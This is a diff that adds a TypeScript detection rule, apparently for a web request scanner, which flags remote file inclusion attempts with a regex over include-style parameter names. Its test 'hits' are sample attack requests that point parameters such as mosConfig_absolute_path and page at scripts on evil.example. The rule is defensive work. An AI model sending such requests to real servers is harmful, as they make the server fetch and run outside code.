@@ -1,0 +1,35 @@
+import { defineRule } from '../rule.ts'
+
+export default defineRule({
+  id: 'rfi/include-parameter',
+  title: 'Include parameter with a remote file',
+  why: 'A parameter that scripts use to choose a file to include names a text or script file on another server.',
+  ja: {
+    title: 'インクルード用パラメーターに外部ファイル',
+    why: '読み込むファイルを選ぶためのパラメーターが、他のサーバーのテキストやスクリプトを指しています。',
+  },
+  severity: 'high',
+  stage: 'inject',
+  attack: ['T1105', 'T1190'],
+  cwe: [98],
+  refs: [
+    'https://owasp.org/www-project-web-security-testing-guide/latest/4-Web_Application_Security_Testing/07-Input_Validation_Testing/11.2-Testing_for_Remote_File_Inclusion',
+    'https://www.php.net/manual/en/features.remote-files.php',
+  ],
+
+  where: ['arg'],
+  needs: [['http://', 'https://', 'ftp://', 'ftps://']],
+  match:
+    /^(?:(?:mosconfig|globals|_server|_request|_conf|phpbb|config|absolute|abs|basepath|base_path|base_dir|basedir|root|rootpath|root_path|server_base|phpbb_root|dir_|path_|prefix|inc|incl|incs|include|includes|include_path|includedir|inc_dir|lib|libpath|classpath|class_path|template|tpl|skin|theme|lang|language|module|mod|page|pag|file|filepath|load|body|content|main|section|menu|header|footer|cmd|exec|plugin\w*)[\w.[\]]{0,30})=\s?(?:https?|ftps?):\/\/[^\s"&?]{1,300}?(?:\.(?:txt|php\d?|phtml|inc|dat|log|pl|py|cgi|sh|asp|jsp)(?:$|[?#])|\/?\?$|\/$)/i,
+
+  hits: [
+    'GET /index.php?mosConfig_absolute_path=http://evil.example/a.txt HTTP/1.1',
+    'GET /index.php?page=https://evil.example/run.php HTTP/1.1',
+    'GET /index.php?include_path=http://evil.example/? HTTP/1.1',
+  ],
+  misses: [
+    'GET /share?url=https://news.example/story.php HTTP/1.1',
+    'GET /view?file=https://cdn.example/report.pdf HTTP/1.1',
+    'GET /player?content=https://cdn.example/film.mp4 HTTP/1.1',
+  ],
+})
